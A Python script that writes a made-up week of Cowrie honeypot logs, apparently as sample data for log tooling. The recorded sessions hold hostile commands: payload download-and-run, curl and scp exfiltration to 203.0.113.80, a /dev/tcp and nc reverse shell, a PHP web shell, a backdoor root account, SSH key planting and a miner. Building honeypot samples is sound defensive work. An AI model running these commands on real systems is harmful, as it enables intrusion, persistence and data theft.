#!/usr/bin/env python3
"""Writes cowrie.json: a week of a Cowrie honeypot that never was.

    python3 samples/make_cowrie.py > samples/cowrie.json

Every session below is invented for this repository. Addresses are from the ranges reserved for
documentation (RFC 5737, RFC 3849), names end in example.org, digests are of made-up words. The same
run always writes the same file.
"""

import hashlib
import json
import random
import sys
from datetime import datetime, timedelta, timezone

chance = random.Random(20260302)
lines = []  # (time, text)


def digest(word, kind="sha256"):
    return hashlib.new(kind, word.encode()).hexdigest()


class Session:
    """One connection to one sensor, told event by event; each one a little later than the last."""

    def __init__(self, when, ip, sensor, protocol="ssh", client="SSH-2.0-libssh2_1.10.0"):
        self.time = datetime.fromisoformat(when).replace(tzinfo=timezone.utc)
        self.ip, self.sensor, self.protocol = ip, sensor, protocol
        self.session = digest(f"{when} {ip} {sensor}")[:12]
        self.started = self.time
        self.connect()
        if protocol == "ssh":
            self.say("cowrie.client.version", version=client, message=f"Remote SSH version: {client}")
            self.say("cowrie.client.kex", hassh=digest(client, "md5"),
                     hasshAlgorithms="curve25519-sha256;aes128-ctr,aes256-ctr;hmac-sha2-256;none",
                     kexAlgs=["curve25519-sha256", "diffie-hellman-group14-sha256"],
                     keyAlgs=["ssh-ed25519", "rsa-sha2-512"], encCS=["aes128-ctr", "aes256-ctr"],
                     macCS=["hmac-sha2-256"], compCS=["none"], langCS=[""],
                     message=f"SSH client hassh fingerprint: {digest(client, 'md5')}")

    def connect(self):
        port = 2222 if self.protocol == "ssh" else 2223
        self.say("cowrie.session.connect", src_port=chance.randrange(32768, 61000),
                 dst_ip="10.20.0.5", dst_port=port, protocol=self.protocol,
                 message=f"New connection: {self.ip} (10.20.0.5:{port}) [session: {self.session}]")

    def stamp(self):
        self.time += timedelta(microseconds=chance.randrange(40_000, 2_400_000))
        return self.time.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    def say(self, eventid, **members):
        event = {"eventid": eventid, **members, "sensor": self.sensor, "timestamp": self.stamp(),
                 "src_ip": self.ip, "session": self.session}
        lines.append((self.time, json.dumps(event, separators=(",", ":"))))
        return self

    def fail(self, *pairs):
        for pair in pairs:
            username, _, password = pair.partition("/")
            self.say("cowrie.login.failed", username=username, password=password,
                     message=f"login attempt [{pair}] failed")
        return self

    def login(self, pair):
        username, _, password = pair.partition("/")
        self.say("cowrie.login.success", username=username, password=password,
                 message=f"login attempt [{pair}] succeeded")
        return self.say("cowrie.session.params", arch="linux-x64-lsb", message=[])

    def run(self, *commands):
        for command in commands:
            self.say("cowrie.command.input", input=command, message=f"CMD: {command}")
        return self

    def unknown(self, command):
        self.run(command)
        return self.say("cowrie.command.failed", input=command,
                        message=f"Command not found: {command}")

    def download(self, url, failed=False):
        if failed:
            return self.say("cowrie.session.file_download.failed", url=url,
                            message=f"Attempt to download file(s) from URL ({url}) failed")
        return self.say("cowrie.session.file_download", url=url, shasum=digest(url),
                        outfile=f"var/lib/cowrie/downloads/{digest(url)}",
                        message=f"Downloaded URL ({url})")

    def close(self):
        seconds = round((self.time - self.started).total_seconds(), 6)
        self.say("cowrie.log.closed", ttylog=f"var/lib/cowrie/tty/{digest(self.session)}",
                 size=chance.randrange(200, 9000), shasum=digest(self.session), duplicate=False,
                 duration=seconds, message=f"Closing TTY Log after {seconds:.0f} seconds")
        return self.end()

    def end(self):
        seconds = round((self.time - self.started).total_seconds(), 6)
        return self.say("cowrie.session.closed", duration=seconds,
                        message=f"Connection lost after {seconds:.0f} seconds")


class OlderSession(Session):
    """As Cowrie wrote until 2018: `system` on every line, no protocol, blanks in the JSON."""

    number = 0

    def connect(self):
        OlderSession.number += 1
        factory = ("cowrie.ssh.factory.CowrieSSHFactory" if self.protocol == "ssh"
                   else "cowrie.telnet.transport.HoneyPotTelnetFactory")
        self.say("cowrie.session.connect", system=factory, src_port=chance.randrange(32768, 61000),
                 dst_ip="10.20.0.9", dst_port=2222, message=f"New connection: {self.ip}")

    def say(self, eventid, **members):
        if eventid in ("cowrie.client.kex", "cowrie.session.params"):
            return self
        transport = "HoneyPotSSHTransport" if self.protocol == "ssh" else "CowrieTelnetTransport"
        system = f"{transport},{OlderSession.number},{self.ip}"
        if eventid.startswith(("cowrie.command", "cowrie.log")) and self.protocol == "ssh":
            system = f"SSHChannel session (0) on SSHService 'ssh-connection' on {system}"
        event = {"eventid": eventid, "timestamp": self.stamp(), "system": system, "isError": 0,
                 "src_ip": self.ip, "session": self.session, "sensor": self.sensor} | members
        if eventid == "cowrie.log.open":  # before it knew the address of a terminal log
            del event["src_ip"]
        lines.append((self.time, json.dumps(event)))
        return self

    def run(self, *commands):
        for command in commands:
            super().run(command)
            self.say("cowrie.command.success", input=command, message=f"Command found: {command}")
        return self


def raw(when, text):
    lines.append((datetime.fromisoformat(when).replace(tzinfo=timezone.utc), text))


# Monday: a bot that guesses, looks at the machine, fetches its program and tidies up.
for hour, pairs in (("02:11:07", ["root/root", "root/toor"]), ("02:11:41", ["root/letmein"])):
    Session(f"2026-03-02T{hour}", "192.0.2.14", "web-1").fail(*pairs).end()
(Session("2026-03-02T02:12:20", "192.0.2.14", "web-1").fail("root/harvest-moon").login("root/winter26")
 .run("uname -srm", "cat /proc/cpuinfo | grep -c processor",
      "cd /tmp || cd /dev/shm; wget -q http://203.0.113.66/pack/kestrel.x86_64 -O .kst")
 .download("http://203.0.113.66/pack/kestrel.x86_64")
 .run("chmod 755 .kst && ./.kst web", "rm -f .kst", "unset HISTFILE; history -c").close())

# The same one, through a sensor that listens on IPv6 and IPv4 with one socket.
(Session("2026-03-02T02:58:33", "::ffff:192.0.2.14", "iot-gw", protocol="telnet").login("root/winter26")
 .run("sh", "curl -s -O http://203.0.113.66/pack/kestrel.arm7; chmod 755 kestrel.arm7; ./kestrel.arm7")
 .download("http://203.0.113.66/pack/kestrel.arm7", failed=True).close())

# Monday: a telnet worm.
(Session("2026-03-02T09:31:00", "192.0.2.77", "iot-gw", protocol="telnet")
 .fail("admin/1234", "guest/guest").login("support/support").run("enable", "system")
 .unknown("linuxsh").run("sh", "/bin/busybox PELICAN", "cat /proc/mounts; /bin/busybox PELICAN",
 "cd /var/run; tftp -g -l dvr.bin -r pelican.mips 203.0.113.66; chmod 777 dvr.bin; ./dvr.bin telnet",
 "/bin/busybox wget http://203.0.113.66/pelican.mips -O - > dvr.bin").close())

# Tuesday: someone by hand, who stays.
(Session("2026-03-03T18:04:50", "198.51.100.23", "web-1", client="SSH-2.0-OpenSSH_9.2p1 Debian-2")
 .say("cowrie.client.size", width=181, height=47, message="Terminal Size: 181 47")
 .say("cowrie.client.var", name="LANG", value="de_CH.UTF-8", message="request_env: LANG=de_CH.UTF-8")
 .fail("deploy/deploy").login("deploy/Deploy2025!")
 .run("whoami", "id", "w", "sudo -l", "hostnamectl", "cat /etc/os-release", "ip addr", "netstat -tulpn",
      "cat /etc/passwd | cut -d: -f1", "sudo cat /etc/shadow", "find / -perm -4000 -type f 2>/dev/null",
      "find /home -name '*.pem' -o -name id_rsa", "ls -la ~/.ssh ~/.aws",
      "grep -ri password /var/www/shop/config", "sudo useradd -m -s /bin/bash svc-print",
      "echo '*/7 * * * * root curl -fs http://203.0.113.80/beat | sh' >> /etc/cron.d/apt-refresh",
      "mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEinventedForDocs ops@example.org' "
      ">> ~/.ssh/authorized_keys",
      "tar czf /tmp/.b.tgz /var/www/shop && curl -F f=@/tmp/.b.tgz http://203.0.113.80/in",
      "cat /dev/null > ~/.bash_history", "export HISTFILE=/dev/null", "exit").close())
(Session("2026-03-04T18:40:12", "198.51.100.23", "db-2", client="SSH-2.0-OpenSSH_9.2p1 Debian-2")
 .say("cowrie.client.fingerprint", username="deploy", fingerprint="6a:09:5e:11", type="ssh-ed25519",
      key="AAAAC3NzaC1lZDI1NTE5AAAAIEinventedForDocs", message="public key attempt for user deploy")
 .login("deploy/Deploy2025!")
 .run("sudo -i", "crontab -e", "ss -tanp", "lsof -i -P", "ps auxww | grep -i mysql",
      "mysqldump --all-databases > /dev/shm/all.sql", "scp /dev/shm/all.sql drop@203.0.113.80:/srv/in/",
      "shred -u /dev/shm/all.sql").close())

# Wednesday: guessing on many accounts until one gives in.
people = ["root", "admin", "ubuntu", "oracle", "postgres", "git", "test", "pi", "ftpuser", "hadoop"]
for round_, password in enumerate(["Spring2026", "password", "P@ssw0rd"]):
    session = Session(f"2026-03-04T0{round_ + 3}:15:00", "198.51.100.200", "db-2",
                      client="SSH-2.0-Go")
    session.fail(*[f"{name}/{password}" for name in people]).end()
(Session("2026-03-04T06:15:00", "198.51.100.200", "db-2", client="SSH-2.0-Go").fail("pi/pi")
 .login("pi/raspberry").run("uname -a; nproc", "last -n 5", "exit").close())

# Thursday: a miner clears out its rivals.
(Session("2026-03-05T11:20:31", "203.0.113.9", "web-1").login("admin/admin")
 .run("nproc; free -m; lscpu | grep 'Model name'", "ps aux --sort=-%cpu | head -5",
      "pkill -9 -f 'xmr|kinsing|kdevtmpfsi'; crontab -r",
      "curl -fsSL https://pool.example.org/dl/finch.tar.gz | tar xz -C /var/tmp",
      "/var/tmp/finch/finch -o stratum+tcp://pool.example.org:3333 -u 4InventedWallet -k -B",
      "(crontab -l; echo '@reboot /var/tmp/finch/finch -B') | crontab -",
      "systemctl stop ufw; iptables -F",
      "echo L3Zhci90bXAvZmluY2gvZmluY2ggLUIK | base64 -d | sh")
 .say("cowrie.session.file_upload", filename="finch.json", shasum=digest("finch.json"),
      outfile=f"var/lib/cowrie/downloads/{digest('finch.json')}", destfile="/var/tmp/finch/config.json",
      message="SFTP uploaded file finch.json")
 .say("cowrie.virustotal.scanfile", sha256=digest("finch.json"), is_new="true", positives=0, total=72,
      message="VT: New file").close())

# Friday: the honeypot as a stepping stone.
(Session("2026-03-06T00:45:19", "203.0.113.50", "db-2", client="SSH-2.0-paramiko_3.4.0")
 .login("root/123456")
 .say("cowrie.direct-tcpip.request", dst_ip="198.51.100.99", dst_port=25, src_port=41022,
      message="direct-tcp connection request to 198.51.100.99:25")
 .say("cowrie.direct-tcpip.data", dst_ip="198.51.100.99", dst_port=25, data="'EHLO mx.example.org\\r\\n'",
      message="discarded direct-tcp forward request")
 .run("which nmap masscan || apt-get install -y nmap", "nmap -sS -p22,445,3389 10.20.0.0/24",
      "masscan 10.20.0.0/16 -p6379 --rate 900", "nc -zv 10.20.0.7 1-1024",
      "ldapsearch -x -H ldap://10.20.0.2 -b dc=example,dc=org", "smbclient -L //10.20.0.3 -N",
      "enum4linux -a 10.20.0.3", "rpcclient -U '' -N 10.20.0.3 -c enumdomusers",
      "route -n", "arp -an", "ifconfig").close())

# Saturday: shells back home, a key by way of Redis, a page left behind.
(Session("2026-03-07T14:02:00", "2001:db8:66::5", "web-1").login("www/www")
 .run("bash -i >& /dev/tcp/203.0.113.80/4444 0>&1", "nc -e /bin/sh 203.0.113.80 4445",
      "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
      "perl -e 'use Socket; print \"socket\\n\"'", "/bin/sh -c 'id > /tmp/.id'",
      "redis-cli -h 10.20.0.7 config set dir /root/.ssh",
      "redis-cli -h 10.20.0.7 set backupkey \"ssh-rsa AAAAB3NzaC1yc2EInventedForDocs ops@example.org\"",
      "echo '<?php system($_GET[\"q\"]); ?>' > /var/www/shop/upload/thumb.php",
      "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd").close())

# Sunday: an older Cowrie on a forgotten machine.
(OlderSession("2026-03-08T07:12:00", "192.0.2.131", "attic")
 .say("cowrie.log.open", ttylog="log/tty/20260308-071200-attic.log", message="Opening TTY Log")
 .fail("root/").login("root/default").run("uname -a", "cat /etc/issue", "who", "wget --help").close())
(OlderSession("2026-03-08T07:30:00", "192.0.2.77", "attic", protocol="telnet").login("support/support")
 .run("enable", "/bin/busybox PELICAN").close())

# What logs also hold: a line cut by a full disk, one of the console, and another program's.
raw("2026-03-05T11:26:00", '{"eventid":"cowrie.command.input","input":"cd /var/tmp; ls","message":"CMD: cd /v')
raw("2026-03-06T04:00:01", "2026-03-06T04:00:01+0000 [-] Python 3.11 cowrie restarted, log rotated")
raw("2026-03-06T04:00:02", '{"program":"backup","level":"info","message":"log directory saved"}')

for _, text in sorted(lines, key=lambda line: line[0]):
    sys.stdout.write(text + "\n")
